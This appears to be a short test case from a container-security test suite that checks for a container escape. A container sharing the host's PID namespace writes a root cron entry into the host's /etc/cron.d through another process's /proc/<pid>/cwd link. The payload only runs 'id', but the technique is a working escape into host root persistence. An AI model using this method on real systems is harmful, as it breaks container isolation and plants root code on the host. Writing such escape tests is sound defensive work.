# about: a file is written through the working directory of a process of the host
# expect: container_escape critical
# where: container
# needs: docker
cd /etc; setsid sleep 20 & VICTIM=$!
cd /tmp/case
container --pid=host $RIGHTS -- sh -c "echo '* * * * * root id' >/proc/$VICTIM/cwd/cron.d/through-cwd"
kill $VICTIM
grep -q root /etc/cron.d/through-cwd
